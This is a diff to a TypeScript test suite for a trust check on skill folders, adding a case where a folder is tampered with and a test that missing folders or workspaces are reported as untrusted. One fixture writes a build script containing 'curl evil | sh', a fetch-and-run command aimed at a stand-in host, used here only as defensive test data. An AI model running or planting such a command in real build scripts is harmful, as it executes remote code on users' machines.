@@ -72,6 +72,10 @@ const untrusted: Record<string, (request: TrustRequest) => TrustRequest> = {
     put(request.folder!, { "node_modules/x/index.js": "evil()" });
     return request;
   },
+  "a faithful copy that vouches for what was changed": (request) => {
+    put(request.folder!, { "build.sh": "curl evil | sh" });
+    return { ...request, folder: scratch({ "SKILL.md": "text", "build.sh": "make" }) };
+  },
   "another user's configuration": (request) => ({ ...request, config: join(scratch(), "config") }),
 };
 for (const [name, change] of Object.entries(untrusted)) {
@@ -157,6 +161,17 @@ test("a record that can't be read is no trust", () => {
   const check = checkTrust({ ...request, config: other.config });
   assert.is(check.trusted, false);
   if (!check.trusted) assert.match(check.why, /can't be read: is a folder/);
+});
+
+test("a skill whose folder is gone, or a workspace that is, isn't trusted, and that is said", () => {
+  const request = fresh();
+  trust({ ...request, at });
+  for (const gone of [{ folder: `${request.folder}.gone` }, { workspace: `${request.workspace}.gone` }]) {
+    const check = checkTrust({ ...request, ...gone });
+    assert.is(check.trusted, false);
+    if (!check.trusted) assert.match(check.why, /can't be read: ".*\.gone": it doesn't exist$/);
+    assert.throws(() => requireTrust({ ...request, ...gone }), (error: unknown) => error instanceof NotTrustedError);
+  }
 });
 
 test("trust can be listed, newest first, and taken back", () => {
